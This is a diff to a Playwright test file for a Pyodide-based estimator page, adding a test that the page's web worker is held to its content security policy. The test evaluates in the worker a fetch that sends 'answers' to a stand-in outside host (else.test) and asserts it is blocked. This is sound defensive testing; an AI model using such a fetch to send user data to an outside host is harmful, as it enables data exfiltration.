@@ -15,6 +15,7 @@ from tests.tools.watch import Watch
 
 # What Chromium says of a file that did not come, what Pyodide does, and what our page says of a mistake in Python.
 PROVOKED = ("console: Failed to load resource", "uncaught: Failed to fetch", "console: Error: PythonError")
+REFUSED = ("console: Refused to connect", "console: Connecting to")
 
 SPOIL = """
 const post = Worker.prototype.postMessage;
@@ -32,7 +33,7 @@ def estimator(page: Page, site: Site) -> Iterator[EstimatorPage]:
     """Watched like the others, but for what these tests provoke."""
     watch = Watch(page.context, site.url)
     yield EstimatorPage(page, site.url)
-    watch.faults = [fault for fault in watch.faults if not fault.startswith(PROVOKED)]
+    watch.faults = [fault for fault in watch.faults if not fault.startswith((*PROVOKED, *REFUSED))]
     watch.assert_quiet()
 
 
@@ -228,3 +229,16 @@ def test_a_memory_that_is_not_what_it_should_be_changes_nothing_for_the_visitor(
     assert estimator.amounts()[0] == HALF_TIME[0]
     assert [text for text in said if "another way" in text]
     expect(estimator.trouble).to_be_empty()
+
+
+def test_the_worker_is_held_to_the_policy_of_its_page(estimator: EstimatorPage) -> None:
+    page = estimator.page
+    asked: list[str] = []
+    page.context.on("request", lambda request: asked.append(request.url))
+    page.context.route("https://else.test/**", lambda route: route.fulfill(body="taken"))
+    estimator.open()
+    estimator.estimate(GENERALISTE)
+    estimator.wait_for_verdict()
+    sent = "fetch('https://else.test/?answers').then((taken) => taken.text(), () => '')"
+    assert page.workers[0].evaluate(sent) == ""
+    assert not [url for url in asked if "else.test" in url]
